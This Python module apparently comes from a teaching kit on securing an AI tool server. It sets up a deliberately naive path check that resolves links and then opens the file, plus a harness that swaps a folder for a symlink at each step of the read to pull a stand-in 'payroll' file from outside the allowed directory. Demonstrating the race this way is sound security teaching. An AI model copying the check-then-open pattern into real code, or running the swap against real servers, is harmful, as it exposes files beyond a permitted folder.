"""The exploit that opens step 09: a folder is swapped for a link while a file in it is read."""

import os
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from itertools import count
from pathlib import Path
from typing import Any

from kit.interleave import at
from kit.refusals import ToolRefusal

TITLE = "Alice may read below the folder notes. Somebody else can write there, and is quick."
SUCCEEDED = "The attack succeeds: what came back is the payroll, from outside the folder."
FAILED = "The attack fails: at no moment of the swap does anything come back from outside."

# What must be written before your own part is attacked.
NEEDS = (("beneath", ("components", "walk", "judge", "open_beneath")),)

ROOTS: dict[int, Path] = {}  # by descriptor; the naive version wants a path


def make_naive(parts: Any) -> None:
    """Put the test in place that follows all links, compares, and then opens."""

    def open_beneath(root_fd: int, path: str, *policy: Any) -> int:
        root = os.path.realpath(ROOTS[root_fd])
        found = os.path.realpath(os.path.join(root, path))
        if os.path.commonpath([root, found]) != root:
            raise ToolRefusal("There is no file of this name that this server may use.")
        return os.open(found, os.O_RDONLY)

    parts.beneath.open_beneath = open_beneath


def attack(stage: Any) -> bool:
    """Read a file, read a link that leads outside, then swap the folder at every moment."""
    for path in ("team/plan.md", "leak.md"):
        with folder(stage) as root_fd:
            tell(stage, path, read(stage, root_fd, path))
    for moment in count():
        with folder(stage) as root_fd:
            answer, reached = swapped(stage, root_fd, moment)
        leaked = "payroll" in answer["content"][0]["text"]
        if leaked or not reached:
            tell(stage, "team/plan.md", answer)
            return leaked


@contextmanager
def folder(stage: Any) -> Iterator[int]:
    """Make the two folders anew and lend the descriptor of the one that may be read."""
    with tempfile.TemporaryDirectory() as base:
        root, outside = Path(base, "notes"), Path(base, "outside")
        for place, text in ((root / "team", "The plan for spring."), (outside, "The payroll.")):
            place.mkdir(parents=True)
            (place / "plan.md").write_text(text)
        (root / "leak.md").symlink_to("../outside/plan.md")
        root_fd = stage.parts.beneath.open_root(str(root))
        ROOTS[root_fd] = root
        yield root_fd
        os.close(root_fd)


def read(stage: Any, root_fd: int, path: str) -> dict[str, Any]:
    """The result of the tool that reads a file."""
    try:
        with open(stage.parts.beneath.open_beneath(root_fd, path), encoding="utf-8") as file:
            return result(file.read())
    except ToolRefusal as refusal:
        return result(refusal.message, is_error=True)


def result(text: str, is_error: bool = False) -> dict[str, Any]:
    """A complete result of a tool."""
    content = [{"type": "text", "text": text}]
    return {"resultType": "complete", "content": content, "isError": is_error}


def swapped(stage: Any, root_fd: int, moment: int) -> tuple[dict[str, Any], bool]:
    """Read while the folder is swapped right before one of the calls that the part makes."""
    team = ROOTS[root_fd] / "team"

    def swap() -> None:
        team.rename(team.with_name("moved"))
        team.symlink_to("../outside")

    part = Path(stage.parts.beneath.open_beneath.__code__.co_filename)
    return at(moment, swap, lambda: read(stage, root_fd, "team/plan.md"), part)


def tell(stage: Any, path: str, answer: dict[str, Any]) -> None:
    """Record the call and its answer."""
    call = stage.request("tools/call", name="notes_read", arguments={"path": path})
    stage.tape.record("alice", "server", call)
    stage.tape.record("server", "alice", {"jsonrpc": "2.0", "id": call["id"], "result": answer})
